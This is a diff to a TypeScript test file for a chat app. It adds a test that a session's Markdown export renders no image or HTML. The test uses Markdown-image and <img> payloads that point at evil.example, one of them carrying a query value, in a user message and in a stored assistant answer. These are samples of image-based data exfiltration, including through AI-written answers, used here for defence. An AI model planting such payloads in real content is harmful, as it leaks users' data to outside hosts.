@@ -3,7 +3,9 @@
  * (chat.session-count.ts) and messages per session (chat.message-count.ts), each refused with its stable code and
  * the catalogue's Danish text, nothing stored, and holding under requests at once. Small caps here (the defaults
  * are CHAT_SESSIONS_PER_USER_MAX and CHAT_MESSAGES_PER_SESSION_MAX); answers come from retrieval (no model).
+ * And the Markdown export, which must load nothing in a viewer: no image, no HTML, from the user's text or an answer.
  */
+import { micromark } from "micromark";
 import mongoose from "mongoose";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { startTestApp, type TestApp } from "../testing/app";
@@ -237,5 +239,28 @@ describe("messages per session", () => {
     expect(
       (await gql(app, Q.send, { sessionId: full, content: "Hej" }, other.token)).errors?.[0].extensions?.code,
     ).toBe("NOT_FOUND");
+  });
+});
+
+describe("the Markdown export", () => {
+  it("should load no image and no HTML in a Markdown viewer, from the user's text or a stored answer", async () => {
+    const u = await createVerifiedUser(app);
+    const sessionId = await newSession(u);
+    await ask(
+      u,
+      sessionId,
+      "Se ![kvittering](https://evil.example/a.png?q=udlaeg) og <img src=https://evil.example/b.png>",
+    );
+    // an answer stored with HTML and an image (before the answer engine stripped HTML, or a model asked to write one)
+    await ChatMessageModel.updateOne(
+      { sessionId, role: "assistant" },
+      { $set: { content: "Svar ![spor](https://evil.example/c.png) <img src=https://evil.example/d.png>" } },
+    );
+    const { exportSession } = await gqlOk(app, Q.export, { sessionId }, u.token);
+    const html = micromark(exportSession, { allowDangerousHtml: true });
+    expect(html).not.toMatch(/<img/i);
+    // each image is a link to its address, as the web app shows it
+    expect(html).toContain('<a href="https://evil.example/a.png?q=udlaeg">kvittering</a>');
+    expect(html).toContain('<a href="https://evil.example/c.png">spor</a>');
   });
 });
